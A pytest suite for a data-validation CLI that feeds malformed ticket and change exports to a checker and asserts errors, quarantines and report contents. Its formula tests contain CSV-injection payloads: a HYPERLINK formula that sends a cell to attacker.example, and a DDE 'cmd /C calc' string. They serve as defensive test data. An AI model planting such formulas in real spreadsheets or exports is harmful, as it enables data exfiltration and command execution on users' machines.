"""`itsm-ml check` on the corpus of broken inputs: each gives a clear error or a quarantine."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from itsm_ml.cli import app
from tests.conftest import BROKEN

runner = CliRunner()


def check(
    tmp_path: Path,
    file: Path,
    *extra: str,
    kind: str = "ticket_csv",
    params: Path = BROKEN / "params.yaml",
) -> tuple[int, str, dict]:
    mapping = {
        "change_csv": ["--mapping", str(BROKEN / "changes_mapping.yaml")],
        "ticket_csv": ["--mapping", str(BROKEN / "mapping.yaml")],
    }.get(kind, [])
    result = runner.invoke(
        app,
        [
            "check",
            str(file),
            "--source",
            kind,
            *mapping,
            "--params",
            str(params),
            "--report-dir",
            str(tmp_path),
            *extra,
        ],
    )
    report_file = tmp_path / f"{file.name}.json"
    report = json.loads(report_file.read_text()) if report_file.exists() else {}
    return result.exit_code, result.output, report


def failed_rules(report: dict) -> dict[str, dict]:
    return {f"{r['column']}: {r['name']}": r for r in report["results"] if not r["success"]}


def test_valid_file_passes(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "valid.csv")
    assert code == 0, output
    assert report["passed"] and report["rows"] == 20 and report["quarantined_rows"] == 0
    assert (tmp_path / "valid.csv.html").read_text().startswith("<!doctype html>")


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("empty.csv", "file is empty (0 bytes)"),
        ("missing_column.csv", "missing required column 'group'"),
        ("renamed_column.csv", "'group' (did you mean 'Assignment Group'?)"),
        ("not_utf8.csv", "not valid utf-8 on line 8"),
        ("truncated.csv", "looks truncated"),
        ("not_csv.png", "not a CSV file, it is a PNG image"),
        ("not_csv.json", "not a CSV file, it looks like JSON"),
    ],
)
def test_unreadable_files_give_a_clear_error(tmp_path: Path, name: str, message: str) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 1
    assert "Traceback" not in output
    flat = " ".join(output.split())
    assert message in flat
    assert name in flat
    # The failure is written as a report too, naming the rule that failed.
    assert report["passed"] is False
    assert message in report["results"][0]["observed"]


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("header_only.csv", "None: row count between 1 and 50000000"),
        ("all_empty_text.csv", "text: text not all empty"),
    ],
)
def test_critical_rules_stop(tmp_path: Path, name: str, rule: str) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 1, output
    assert rule in failed_rules(report)
    assert "INVALID" in output


@pytest.mark.parametrize(
    ("name", "rule", "reason"),
    [
        (
            "unparseable_dates.csv",
            "opened_at: value parses as a timestamp",
            "opened_at='31/02/2025 10:00'",
        ),
        ("closed_before_opened.csv", "closed_at: not closed before opened", "closed_at="),
        ("future_dates.csv", "opened_at: not in the future", "opened_at='2099-01-01T09:00:00'"),
        ("duplicate_ids.csv", "ticket_id: id unique", "id unique"),
        ("null_ids.csv", "ticket_id: id not null", "id not null"),
        ("unknown_labels.csv", "label_priority: value in the configured vocabulary", "'P9'"),
    ],
)
def test_row_rules_quarantine_with_reason(
    tmp_path: Path, name: str, rule: str, reason: str
) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 0, output  # within the corpus limit of 10% quarantined rows
    failures = failed_rules(report)
    assert rule in failures, list(failures)
    assert failures[rule]["failed_count"] >= 1
    assert report["quarantined_rows"] >= 1
    flat = " ".join(output.split())
    assert "quarantined" in flat and reason.split("=")[0] in flat


def test_text_in_a_numeric_column_is_quarantined(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "text_in_numeric.csv", kind="change_csv")
    assert code == 0, output
    failure = failed_rules(report)["size: value parses as a number"]
    assert failure["failed_count"] == 1
    assert "size='big'" in failure["examples"][0]


def test_mixed_date_formats_exceed_the_quarantine_limit(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "mixed_date_formats.csv")
    assert code == 1
    assert report["quarantined_rows"] == 10
    flat = " ".join(output.split())
    assert "above the limit of 10.00%" in flat
    assert "opened_at='03/02/2025 09:01'" in flat


def test_the_default_limit_of_one_percent_stops_a_single_bad_row(tmp_path: Path) -> None:
    params = tmp_path / "params.yaml"
    params.write_text((BROKEN / "params.yaml").read_text().replace("0.1", "0.01"))
    result = runner.invoke(
        app,
        [
            "check",
            str(BROKEN / "duplicate_ids.csv"),
            "-s",
            "ticket_csv",
            "--mapping",
            str(BROKEN / "mapping.yaml"),
            "--params",
            str(params),
            "--report-dir",
            str(tmp_path),
        ],
    )
    assert result.exit_code == 1


def test_a_one_megabyte_text_cell_is_quarantined(tmp_path: Path) -> None:
    lines = (BROKEN / "valid.csv").read_text().splitlines(keepends=True)
    huge = lines[5].replace("paper stuck in tray 4", "x" * 1_048_576)
    file = tmp_path / "huge_cell.csv"
    file.write_text("".join([*lines[:5], huge, *lines[6:]]))
    code, output, report = check(tmp_path, file)
    assert code == 0, output
    failure = failed_rules(report)["text: text at most 100000 characters"]
    assert failure["failed_count"] == 1


def test_formula_strings_stay_inert_text(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "formulas.csv")
    assert code == 0, output
    assert report["passed"] and report["quarantined_rows"] == 0
    import yaml

    from itsm_ml.config import parse_source
    from itsm_ml.data.sources import load_table

    block = yaml.safe_load((BROKEN / "mapping.yaml").read_text())
    source = parse_source(
        "tickets", {**block, "kind": "ticket_csv", "path": str(BROKEN / "formulas.csv")}
    )
    frame = load_table("tickets", source)
    text = frame.loc[frame.ticket_id == "T0002", "text"].iloc[0]
    assert text.startswith('=HYPERLINK("http://attacker.example/?x="&A1,"click")')


def test_missing_mapping_is_a_usage_error(tmp_path: Path) -> None:
    result = runner.invoke(app, ["check", str(BROKEN / "valid.csv"), "--source", "ticket_csv"])
    assert result.exit_code == 2
    assert "needs --mapping" in " ".join(result.output.split())


def test_unknown_source_kind_is_a_usage_error() -> None:
    result = runner.invoke(app, ["check", str(BROKEN / "valid.csv"), "--source", "excel"])
    assert result.exit_code == 2


def test_schema_lists_canonical_columns() -> None:
    result = runner.invoke(app, ["schema", "changes"])
    assert result.exit_code == 0
    assert "label_failed" in result.output and "ticket_id" not in result.output


def test_generate_writes_exports_that_pass_check(tmp_path: Path) -> None:
    result = runner.invoke(app, ["generate", str(tmp_path), "--rows", "300", "--seed", "3"])
    assert result.exit_code == 0, result.output
    incidents = pd.read_csv(tmp_path / "incidents.csv")
    assert len(incidents) == 300
    project_params = Path(__file__).parents[2] / "params.yaml"
    code, output, report = check(
        tmp_path, tmp_path / "incidents.csv", kind="servicenow_table", params=project_params
    )
    assert code == 0, output
    assert report["quarantined_rows"] == 0
    result = runner.invoke(
        app,
        [
            "check",
            str(tmp_path / "changes.csv"),
            "-s",
            "change_csv",
            "--mapping",
            str(tmp_path / "changes.mapping.yaml"),
            "--report-dir",
            str(tmp_path / "r"),
            "--params",
            str(project_params),
        ],
    )
    assert result.exit_code == 0, result.output


# Data that parses but is wrong: each case of the corpus is refused or quarantined, and the
# output names the rule, the column and an example. The label rules judge the labels of the
# catalog's models (the corpus params declare none: the defaults, routing on
# assignment_group, category and priority).


def corpus_params(tmp_path: Path, **validation: object) -> Path:
    """The corpus params with some validation settings of tickets changed."""
    import yaml

    params = yaml.safe_load((BROKEN / "params.yaml").read_text())
    params["tickets"]["validation"].update(validation)
    path = tmp_path / "params.yaml"
    path.write_text(yaml.safe_dump(params))
    return path


def test_a_label_missing_from_every_row_stops_the_table(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "labels_all_missing.csv")
    assert code == 1, output
    rule = "label_assignment_group: label on at least 50% of the rows"
    observed = failed_rules(report)[rule]["observed"]
    assert observed == "present on 0.00% (0 of 20 rows), minimum 50%"
    flat = " ".join(output.split())
    assert "INVALID" in flat
    assert (
        "column `label_assignment_group`: rule 'label on at least 50% of the rows' failed"
        " (present on 0.00% (0 of 20 rows), minimum 50%), e.g. ticket_id=T0000" in flat
    )


def test_labels_present_only_at_the_end_of_the_export_stop_the_table(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "labels_only_late.csv")
    assert code == 1, output
    failures = failed_rules(report)
    for label in ("label_assignment_group", "label_priority"):
        failure = failures[f"{label}: label on at least 50% of the rows"]
        assert failure["observed"].startswith("present on 10.00% (2 of 20 rows)")
        assert failure["examples"][0] == "ticket_id=T0000"
    assert "label on at least 50% of the rows" in " ".join(output.split())


def test_labels_missing_in_the_oldest_periods_stop_the_table(tmp_path: Path) -> None:
    # 60% labelled overall: only the periods show the hole. 20 rows in ten periods of two.
    params = corpus_params(tmp_path, labels={"min_period_rows": 2})
    code, output, report = check(tmp_path, BROKEN / "labels_missing_early.csv", params=params)
    assert code == 1, output
    failures = failed_rules(report)
    assert "label_priority: label on at least 50% of the rows" not in failures
    rule = (
        "label_priority: label on at least 30% of the rows of each tenth of the time range"
        " (the newest exempt)"
    )
    failure = failures[rule]
    assert failure["observed"].startswith(
        "below in 4 of 9 tenths of the time range judged: 2025-03-01 09:00 to 2025-03-03 06:37:"
        " 0.00% (0 of 2 rows)"
    )
    assert (
        "the newest tenth of the time range (2025-03-18 11:41 to 2025-03-20 09:19) is exempt"
        in failure["observed"]
    )
    assert failure["examples"][0] == "ticket_id=T0000 (opened_at='2025-03-01T09:00:00')"
    flat = " ".join(output.split())
    assert "label_priority" in flat and "each tenth of the time range" in flat
    assert "ticket_id=T0000" in flat


def test_a_label_value_new_in_the_newest_rows_is_a_warning(tmp_path: Path) -> None:
    params = corpus_params(tmp_path, labels={"min_count": 2})
    code, output, report = check(tmp_path, BROKEN / "labels_new_group.csv", params=params)
    assert code == 0, output  # a warning never fails the table
    assert report["passed"] and report["warnings"] == 1
    rule = (
        "label_assignment_group: no label value only in, or missing from, the newest 20% of"
        " the rows"
    )
    failure = failed_rules(report)[rule]
    assert failure["severity"] == "warning"
    assert failure["examples"] == [
        "new: 'GRP_9' on 4 of the newest rows, first opened 2025-03-17",
        "gone: 'GRP_0' on 8 earlier rows, last opened 2025-03-15, about 2 expected among"
        " the newest",
        "gone: 'GRP_1' on 8 earlier rows, last opened 2025-03-16, about 2 expected among"
        " the newest",
    ]
    flat = " ".join(output.split())
    assert "warning (does not fail the table): column `label_assignment_group`" in flat
    assert "'GRP_9'" in flat
    html = (tmp_path / "labels_new_group.csv.html").read_text()
    assert '<span class="note">warning</span>' in html


def test_a_negative_count_in_an_audit_log_is_quarantined(tmp_path: Path) -> None:
    # reassignment_count -3 on two events; one incident ends with it (its label), the other
    # only had it when opened, which the canonical table does not keep.
    code, output, report = check(
        tmp_path,
        BROKEN / "servicenow_negative_counts.csv",
        kind="servicenow_audit_log",
        params=BROKEN / "servicenow_params.yaml",
    )
    assert code == 0, output
    failure = failed_rules(report)["label_reassignment_count: not negative"]
    assert failure["failed_count"] == 1 and report["quarantined_rows"] == 1
    assert failure["examples"] == ["ticket_id=INC9100007 (label_reassignment_count=-3)"]
    flat = " ".join(output.split())
    assert "not negative" in flat and "label_reassignment_count=-3" in flat


def test_an_incident_number_reused_with_another_open_time_stops_the_table(
    tmp_path: Path,
) -> None:
    code, output, report = check(
        tmp_path,
        BROKEN / "servicenow_reused_number.csv",
        kind="servicenow_audit_log",
        params=BROKEN / "servicenow_params.yaml",
    )
    assert code == 1, output
    failure = failed_rules(report)["opened_at: one opened_at per id"]
    assert failure["severity"] == "critical"
    assert failure["examples"] == [
        "ticket_id=INC9100005 (opened_at='2025-03-06 09:05:00 | 2025-05-12 11:30:00')"
    ]
    flat = " ".join(output.split())
    assert "column `opened_at`: rule 'one opened_at per id' failed" in flat
    assert "INC9100005" in flat and "2025-05-12 11:30:00" in flat


def test_a_two_million_character_field_is_quarantined(tmp_path: Path) -> None:
    lines = (BROKEN / "valid.csv").read_text().splitlines(keepends=True)
    huge = lines[5].replace("caller 4", "x" * 2_000_000)
    file = tmp_path / "huge_field.csv"
    file.write_text("".join([*lines[:5], huge, *lines[6:]]))
    code, output, report = check(tmp_path, file)
    assert code == 0, output
    failure = failed_rules(report)["caller: at most 4000 characters"]
    assert failure["failed_count"] == 1 and report["quarantined_rows"] == 1
    assert failure["examples"] == [f"ticket_id=T0004 (caller='{'x' * 56}...)"]
    assert "at most 4000 characters" in " ".join(output.split())


def test_formulas_in_a_feature_column_are_escaped_and_counted(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "formula_in_feature.csv")
    assert code == 0, output
    assert report["passed"] and report["quarantined_rows"] == 0
    assert report["escaped_cells"] == 2  # not the phone number, not -3
    failure = failed_rules(report)["caller: not formula-like"]
    assert failure["severity"] == "warning" and failure["failed_count"] == 2
    assert failure["examples"][0].startswith("ticket_id=T0002 (caller='=HYPERLINK(")
    assert failure["observed"] == "2 cells escaped with a leading ' in the validated table"
    flat = " ".join(output.split())
    assert "2 formula-like cells escaped" in flat
    assert "not formula-like" in flat and "caller='=HYPERLINK(" in flat


def test_formulas_quarantine_their_rows_when_asked(tmp_path: Path) -> None:
    params = corpus_params(tmp_path, formulas="quarantine")
    code, output, report = check(tmp_path, BROKEN / "formula_in_feature.csv", params=params)
    assert code == 0, output  # 2 of 20 rows: within the corpus limit of 10%
    assert report["quarantined_rows"] == 2 and report["escaped_cells"] == 0
    failure = failed_rules(report)["caller: not formula-like"]
    assert failure["severity"] == "row"
    assert "caller=\"@SUM(1+1)*cmd|' /C calc'!A0\"" in " ".join(output.split())


def test_an_assistant_export_in_json_lines_is_checked_as_micro_records(tmp_path: Path) -> None:
    rows = [
        {"id": f"c{i}", "timestamp": f"2025-03-0{1 + i % 9}T09:00:00", "user": f"u{i % 7}",
         "symptom": f"VPN error {i}", "minutes_lost": "-1" if i == 3 else "5"}
        for i in range(150)
    ]  # fmt: skip
    export = tmp_path / "assistant.jsonl"
    export.write_text("".join(json.dumps(r) + "\n" for r in rows))
    code, output, report = check(
        tmp_path, export, kind="assistant_export", params=tmp_path / "none"
    )
    assert code == 0, output
    assert report["table"] == "micro_records" and report["rows"] == 150
    assert report["quarantined_rows"] == 1  # the negative minutes lost
    export.write_text(json.dumps(rows[0]) + "\nnot json\n")
    code, output, _ = check(tmp_path, export, kind="assistant_export", params=tmp_path / "none")
    assert code == 1 and "line 2 is not valid JSON" in output
